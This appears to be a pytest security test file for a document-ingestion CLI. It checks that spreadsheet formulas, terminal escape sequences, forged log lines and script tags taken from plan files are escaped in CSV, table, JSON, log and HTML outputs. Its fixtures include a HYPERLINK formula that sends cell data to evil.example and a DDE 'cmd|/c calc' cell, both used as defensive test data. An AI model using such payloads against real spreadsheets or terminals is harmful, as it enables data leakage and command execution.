"""Issue 11, defects 6 and 7: hostile text in plans reaches every output of `plans` safely.

A real dataset is built from two sample plans rewritten with hostile cells (a DOCX written
with python-docx, a text export) and two hostile file names, ingested through the real CLI.
DOCX cannot hold ESC or BEL (XML 1.0 forbids them), so the terminal payloads ride in the text
export, where the reader keeps them, and in the file names.
"""

from __future__ import annotations

import csv
import io
import json
import re
from contextlib import redirect_stderr, redirect_stdout
from datetime import date
from decimal import Decimal
from pathlib import Path

import docx
import pytest
from matplotlib import font_manager, ft2font

from pipeline.cli import main
from tests.conftest import RAW

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
TITLE_OSC = "\x1b]0;pwned\x07 Tiêu đề"  # an OSC sequence that retitles the terminal
CLEAR_CSI = "\x1b[2J xoá màn hình"  # a CSI sequence that clears the screen
# A file name that forges a progress line and clears the screen; one that forges a FAILED line.
EVIL_TXT = "xã\n[9] ok      forged.txt (0.01 s)\x1b[2J.txt"
EVIL_PDF = "bad\n  FAILED forged.pdf: fake\x1b]0;pwned\x07.pdf"
# Laws cited by name whose names hold mathtext: '$a_$' made matplotlib raise.
LAWS = (
    "Căn cứ Luật Tổ chức $x$ and $y$ ngày 19 tháng 6 năm 2015;",
    "Căn cứ Luật Thí điểm $a_$ và $\\frac$ ngày 22 tháng 11 năm 2019;",
)
ROW_PAYLOADS = {  # plan_000 appendix: STT -> (criterion, requirement)
    "1.1": (FORMULA, "@SUM(A1:A9)"),
    "1.2": ("+1", "-"),
    "1.3": ("-2", "Hoàn thành 100%"),
    "1.4": ("<script>alert(1)</script>", "Hoàn thành 100%"),
}


def _hostile_docx(path: Path) -> None:
    """plan_000 (Hà Châu) with spreadsheet formulas and HTML in appendix cells."""
    document = docx.Document(str(RAW / "plan_000.docx"))
    rows = {row.cells[0].text: row for row in document.tables[-1].rows}
    for stt, (criterion, requirement) in ROW_PAYLOADS.items():
        rows[stt].cells[1].text = criterion
        rows[stt].cells[2].text = requirement
    anchor = next(p for p in document.paragraphs if p.text.startswith("Thực hiện"))
    for law in LAWS:
        anchor.insert_paragraph_before(law)
    document.save(str(path))


def _hostile_txt(path: Path) -> None:
    """plan_004 (Giang Điền) with terminal escape sequences in two objectives."""
    lines = []
    for line in (RAW / "plan_004.txt").read_text(encoding="utf-8").splitlines():
        cells = line.split("\t")
        if cells[0] in ("1.1", "1.2") and len(cells) > 2:
            cells[1] = TITLE_OSC if cells[0] == "1.1" else CLEAR_CSI
        lines.append("\t".join(cells))
        if line.startswith("Thực hiện"):
            lines.extend(LAWS)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _sources(root: Path) -> Path:
    src = root / "in"
    src.mkdir()
    _hostile_docx(src / "hostile.docx")
    _hostile_txt(src / EVIL_TXT)
    (src / EVIL_PDF).write_bytes(b"")
    return src


@pytest.fixture(scope="module")
def dataset(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    out = root / "out"
    with redirect_stdout(io.StringIO()), redirect_stderr(io.StringIO()):
        code = main(["ingest", str(_sources(root)), "--out", str(out), "--progress", "none"])
    assert code == 1  # the empty PDF failed, the two plans landed
    return out


def _query(dataset: Path, sql: str, *options: str) -> str:
    out = io.StringIO()
    with redirect_stdout(out):
        assert main(["query", sql, "--data", str(dataset), *options]) == 0
    return out.getvalue()


ITEMS_SQL = (
    "select i.code, coalesce(i.criterion, i.objective) as text, i.requirement, "
    "i.row_index - 1000 as delta, -2.5 as neg from plan_items i join documents d "
    "using (doc_id) where i.code in ('1.1', '1.2', '1.3', '1.4') order by d.source_format, i.code"
)
# The payloads as stored (checked below), and as the default CSV writes them (by hand).
STORED = [
    FORMULA,
    "@SUM(A1:A9)",
    "+1",
    "-",
    "-2",
    "<script>alert(1)</script>",
    TITLE_OSC,
    CLEAR_CSI,
]


def test_the_dataset_holds_the_payloads_as_extracted(dataset: Path) -> None:
    rows = [json.loads(x) for x in _query(dataset, ITEMS_SQL, "--format", "jsonl").splitlines()]
    texts = {r["text"] for r in rows} | {r["requirement"] for r in rows}
    assert set(STORED) <= texts


def test_csv_neutralises_formulas_and_keeps_numbers(dataset: Path) -> None:
    text = _query(dataset, ITEMS_SQL, "--format", "csv")
    rows = list(csv.reader(io.StringIO(text)))
    cells = {c for row in rows[1:] for c in row[1:3]}
    assert "'" + FORMULA in cells and "'@SUM(A1:A9)" in cells
    assert {"'+1", "'-", "'-2", "<script>alert(1)</script>"} <= cells
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)
    # numbers stay numbers, written bare: a spreadsheet reads -997 and -2.5, not text
    line = text.splitlines()[1]
    assert re.search(r",-\d+,-2\.5$", line), line
    assert [row[3].startswith("-") and row[4] == "-2.5" for row in rows[1:]] == [True] * 8


def test_csv_escapes_terminal_sequences(dataset: Path) -> None:
    text = _query(dataset, ITEMS_SQL, "--format", "csv")
    assert "\x1b" not in text and "\x07" not in text
    assert '"\\x1b]0;pwned\\x07 Tiêu đề"' in text and '"\\x1b[2J xoá màn hình"' in text


def test_csv_raw_writes_values_as_stored(dataset: Path) -> None:
    text = _query(dataset, ITEMS_SQL, "--format", "csv", "--raw")
    cells = {c for row in list(csv.reader(io.StringIO(text)))[1:] for c in row[1:3]}
    assert set(STORED) <= cells


def test_csv_neutralises_tab_and_cr_and_quotes_separators(dataset: Path) -> None:
    sql = (
        "select chr(9) || '=1+1' as a, chr(13) || '=1' as b, 'x;=cmd|''/c calc''!A0' as c, "
        "'say \"hi\"' as d, '' as e, NULL as f, '-1' as g, -1 as h"
    )
    text = _query(dataset, sql, "--format", "csv")
    assert text.split("\r\n")[1] == (
        '"\'\t=1+1","\'\r=1","x;=cmd|\'/c calc\'!A0","say ""hi""","",,"\'-1",-1'
    )
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row == ["'\t=1+1", "'\r=1", "x;=cmd|'/c calc'!A0", 'say "hi"', "", "", "'-1", "-1"]


def test_raw_is_for_csv_only(dataset: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["query", "select 1", "--data", str(dataset), "--raw"]) == 2
    assert "--raw" in capsys.readouterr().err


def test_table_shows_control_characters_escaped(dataset: Path) -> None:
    text = _query(dataset, ITEMS_SQL, "--max-width", "200")
    assert "\x1b" not in text and "\x07" not in text
    assert "\\x1b]0;pwned\\x07 Tiêu đề" in text and "\\x1b[2J xoá màn hình" in text
    paths = _query(dataset, "select source_path from documents order by 1", "--max-width", "300")
    assert "\x1b" not in paths and "\\x1b[2J.txt" in paths
    assert len(paths.splitlines()) == 2 + 2 + 1  # header, rule, two rows, count


def test_json_lines_are_exact_and_one_line_each(dataset: Path) -> None:
    sql = (
        "select objective, chr(133) || chr(8232) || chr(8233) || chr(8238) as seps from plan_items"
    )
    text = _query(dataset, sql, "--format", "jsonl")
    assert "\x1b" not in text and not any(c in text for c in "\x85\u2028\u2029\u202e")
    lines = text.splitlines()  # str.splitlines also breaks on U+0085, U+2028 and U+2029
    rows = [json.loads(x) for x in lines]
    assert {r["seps"] for r in rows} == {"\x85\u2028\u2029\u202e"}
    assert {TITLE_OSC, CLEAR_CSI} <= {r["objective"] for r in rows}


def test_sql_errors_quoting_cells_are_escaped(
    dataset: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sql = "select cast(objective as integer) from plan_items where objective like chr(27) || '%'"
    assert main(["query", sql, "--data", str(dataset)]) == 2
    err = capsys.readouterr().err
    assert "SQL error" in err and "\\x1b" in err and "\x1b" not in err


def test_review_and_compare_tables_are_escaped(
    dataset: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["review", "--data", str(dataset), "--limit", "500", "--max-width", "200"]) == 0
    assert main(["compare", "F3.ONTIME", "--data", str(dataset)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b]0;pwned\\x07" in out  # the review list shows the objective


def _ingest(tmp_path: Path, *options: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(["ingest", str(_sources(tmp_path)), "--out", str(tmp_path / "o"), *options])
    return code, out.getvalue(), err.getvalue()


def test_progress_and_summary_lines_cannot_be_forged(tmp_path: Path) -> None:
    code, out, err = _ingest(tmp_path, "--progress", "lines")
    assert code == 1
    for text in (out, err):
        assert "\x1b" not in text and "\x07" not in text
        assert not any(line.startswith(("[9]", "  FAILED forged")) for line in text.splitlines())
    progress = err.splitlines()
    assert len(progress) == 1 + 3 and progress[0].startswith("extracting 3 file(s)")
    assert all(re.match(r"\[\d/3\] (ok|failed) ", line) for line in progress[1:])
    assert "xã\\n[9] ok      forged.txt (0.01 s)\\x1b[2J.txt (" in err
    failed = [line for line in out.splitlines() if "FAILED" in line]
    assert failed == [line for line in failed if line.startswith("  FAILED ")] and len(failed) == 1
    assert "bad\\n  FAILED forged.pdf: fake\\x1b]0;pwned\\x07.pdf" in failed[0]


def test_log_json_prints_only_json_objects(tmp_path: Path) -> None:
    code, out, err = _ingest(tmp_path, "--log-json")
    assert code == 1
    assert out == ""
    events = [json.loads(line) for line in err.splitlines()]
    summary = events[-1]
    assert summary["message"] == "run summary" and summary["failed"] == 1
    assert [f["path"] for f in summary["failures"]] == [str(tmp_path / "in" / EVIL_PDF)]
    per_doc = {Path(e["path"]).name for e in events if e["message"] == "extracted"}
    assert per_doc == {"hostile.docx", EVIL_TXT, EVIL_PDF}


def test_log_json_refuses_a_text_progress_display(tmp_path: Path) -> None:
    code, out, err = _ingest(tmp_path, "--log-json", "--progress", "lines")
    assert code == 2 and out == ""
    assert "--progress lines" in err and "--log-json" in err


def test_text_logs_escape_control_characters(tmp_path: Path) -> None:
    import logging

    from pipeline.cli import _setup_logging

    _setup_logging(verbose=False, json_logs=False)
    err = io.StringIO()
    handler = logging.getLogger().handlers[0]
    handler.setStream(err)  # type: ignore[attr-defined]
    logging.getLogger("pipeline.ingest.process").error("processing %s crashed", EVIL_PDF)
    assert err.getvalue().count("\n") == 1 and "\x1b" not in err.getvalue()
    assert "bad\\n  FAILED forged.pdf" in err.getvalue()


def test_report_draws_dollar_signs_as_text(dataset: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    with redirect_stdout(io.StringIO()):
        assert main(["report", "--data", str(dataset), "--out", str(out)]) == 0
    html = out.read_text(encoding="utf-8")
    cited = html[html.index('data-chart="legal-cited"') :]
    cited = cited[: cited.index("</svg>")]
    # Text is drawn as glyph paths with ids 'DejaVuSans-<glyph index>': a '$' glyph drawn
    # means the label was not parsed as math (mathtext drops the dollars).
    font = ft2font.FT2Font(font_manager.findfont("DejaVu Sans"))
    assert f'id="legal-cited-DejaVuSans-{font.get_char_index(ord("$")):x}"' in cited
    assert "DejaVuSans-Oblique" not in cited  # mathtext would set x and y in italics
    assert "<script>alert" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "\x1b" not in html


# --- the escaping itself, case by case (values worked out by hand) --------------------------

TERMINAL_CASES = [
    ("Hà Châu", "Hà Châu"),
    ("\x1b]0;pwned\x07", "\\x1b]0;pwned\\x07"),
    ("a\nb\r\tc", "a\\nb\\r\\tc"),
    ("\x00\x7f\x85\x9b", "\\x00\\x7f\\x85\\x9b"),
    ("dòng\u2028mới\u2029", "dòng\\u2028mới\\u2029"),
    ("abc\u202edcba\u2066x\u2069", "abc\\u202edcba\\u2066x\\u2069"),
    ("C:\\path\\x1b", "C:\\path\\x1b"),  # a backslash is left alone
    ("Nghị định 61/2018/NĐ-CP\u00a0ngày", "Nghị định 61/2018/NĐ-CP\u00a0ngày"),  # NBSP is text
]


@pytest.mark.parametrize(("text", "shown"), TERMINAL_CASES)
def test_terminal_text(text: str, shown: str) -> None:
    from pipeline.safe_text import terminal_text

    assert terminal_text(text) == shown
    assert len(terminal_text(text).splitlines()) <= 1


@pytest.mark.parametrize(("text", "shown"), TERMINAL_CASES)
def test_json_line_round_trips(text: str, shown: str) -> None:
    from pipeline.safe_text import json_line

    line = json_line({"text": text, "n": -2})
    assert json.loads(line) == {"text": text, "n": -2}
    assert len(line.splitlines()) == 1 and not re.search("[\x00-\x1f\x7f-\x9f\u2028-\u202e]", line)


@pytest.mark.parametrize(
    ("value", "field"),
    [
        ("=1+1", '"\'=1+1"'),
        ("+84 912 345 678", '"\'+84 912 345 678"'),
        ("- Tiếp tục thực hiện", '"\'- Tiếp tục thực hiện"'),
        ("@SUM(A1)", '"\'@SUM(A1)"'),
        ("\t=1", '"\'\t=1"'),
        ("\r=1", '"\'\r=1"'),
        ("\n=1", '"\n=1"'),  # not in OWASP's list: a line feed starts no formula
        (" =1", '" =1"'),
        ("96%", '"96%"'),
        ('Kế hoạch "57"', '"Kế hoạch ""57"""'),
        ("a,b", '"a,b"'),
        ("\x1b[2J", '"\\x1b[2J"'),
        ("", '""'),
        (None, ""),
        (-2, "-2"),
        (-2.5, "-2.5"),
        (Decimal("-0.75"), "-0.75"),
        (True, "True"),
        (date(2023, 8, 28), '"2023-08-28"'),
    ],
)
def test_csv_field(value: object, field: str) -> None:
    from pipeline.safe_text import csv_field

    assert csv_field(value) == field
